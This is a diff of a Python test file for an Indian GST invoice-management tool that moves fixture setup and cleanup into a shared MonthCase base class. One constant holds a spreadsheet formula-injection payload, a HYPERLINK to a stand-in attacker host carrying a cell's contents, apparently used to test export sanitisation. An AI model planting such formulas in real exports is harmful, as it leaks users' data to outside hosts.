@@ -15,34 +15,27 @@ from india_ims.ims import api, benchmark, bulk, clock, reconcile, synclog, tool_
 from india_ims.ims.constants import INWARD_SUPPLY, KIND_UPLOAD, SYNC_LOG, SYNC_LOG_ERROR
 from india_ims.ims.download import apply_records
 from india_ims.tests import helpers
-from india_ims.tests.helpers import BaseTestCase
+from india_ims.tests.month_case import MonthCase
 
 USER = "ims.ca.user@example.com"
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 
 
-class TestImsToolForTheAccountant(BaseTestCase):
+class TestImsToolForTheAccountant(MonthCase):
+    MONTH = {"records": 60, "seed": 61}
+    CLEAR_EACH = True
+
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
-        cls.company = helpers.company()
-        cls.month = helpers.month(records=60, seed=61)
-        cls.gstin = cls.month.recipient_gstin
-        helpers.register(cls.company, cls.gstin)
         helpers.user(USER, ["Accounts User"], cls.company)
 
     def setUp(self):
         super().setUp()
-        frappe.set_user("Administrator")
-        helpers.clear(self.gstin)
         benchmark.insert_purchases(self.company, self.gstin, self.month.purchases)
         apply_records(self.company, self.gstin, self.month.ims_records)
         reconcile.reconcile(self.company, self.gstin, helpers.PERIOD)
         frappe.db.commit()
-
-    def tearDown(self):
-        frappe.set_user("Administrator")
-        helpers.clear(self.gstin)
 
     def _names(self, **filters):
         return frappe.get_all(
